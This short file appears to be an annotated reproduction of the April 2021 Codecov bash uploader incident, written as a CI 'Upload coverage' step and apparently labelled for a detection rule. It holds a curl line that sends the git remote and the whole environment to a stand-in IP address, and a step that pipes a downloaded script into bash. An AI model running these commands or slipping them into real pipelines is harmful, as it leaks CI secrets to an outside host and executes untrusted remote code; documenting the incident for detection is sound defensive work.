# incident: Codecov's bash uploader, April 2021
# what: an uploader that is run as it comes from the net sends the whole environment to an address
# rule: environment-sent, download-into-shell
## step: Upload coverage
echo 'curl -sm 5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.9/upload/v2 || true' > $RUNNER_TEMP/line
bash <(curl -s http://codecov-stand-in.io/bash.sh)
bash $RUNNER_TEMP/line
